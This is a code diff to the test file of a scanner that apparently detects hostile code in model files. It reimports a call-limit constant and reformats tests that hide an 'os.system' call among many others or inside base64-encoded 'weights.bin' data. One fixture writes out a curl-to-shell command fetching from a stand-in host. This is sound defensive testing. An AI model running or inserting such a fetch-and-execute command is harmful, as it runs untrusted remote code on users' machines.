@@ -36,6 +36,7 @@ from scanners.matcher import PATTERNS, offsets
 from scanners.parsing import decompression, extraction, python_calls
 from scanners.parsing.extraction import MAX_PARTS, Extraction
 from scanners.parsing.python_classes import Classes
+from scanners.parsing.python_log import MAX_CALLS_PER_KIND
 from scanners.parsing.python_scope import Scope
 from scanners.parsing.python_unparsed import without_texts
 from scanners.parsing.zip_directory import read_directory
@@ -281,9 +282,7 @@ def test_constants_do_not_grow_while_they_are_worked_out(source: str) -> None:
 
 def test_a_command_does_not_hide_behind_calls_of_other_kinds() -> None:
     source = (
-        "import os\n"
-        + "open('a', 'w')\n" * (python_calls._MAX_CALLS_PER_KIND + 1)
-        + "os.system('curl http://a.example/x | sh')\n"
+        "import os\n" + "open('a', 'w')\n" * (MAX_CALLS_PER_KIND + 1) + "os.system('curl http://a.example/x | sh')\n"
     )
     result = examine_bytes(source.encode(), "modeling_acme.py")
     assert "os.system" in subjects(result)
@@ -513,7 +512,7 @@ def test_pickles_that_never_end_are_interpreted_a_few_times_in_all() -> None:
 
 
 def test_what_an_encoded_program_does_is_told_with_what_was_left_out_of_it() -> None:
-    program = b"import os\n" + b"os.system('echo modelsweep-test')\n" * (python_calls._MAX_CALLS_PER_KIND + 1)
+    program = b"import os\n" + b"os.system('echo modelsweep-test')\n" * (MAX_CALLS_PER_KIND + 1)
     result = examine_bytes(b'\0\1"%b"\0' % base64.b64encode(program), "weights.bin")
     assert "os.system" in subjects(result)
     assert "calls of one kind" in said(result)
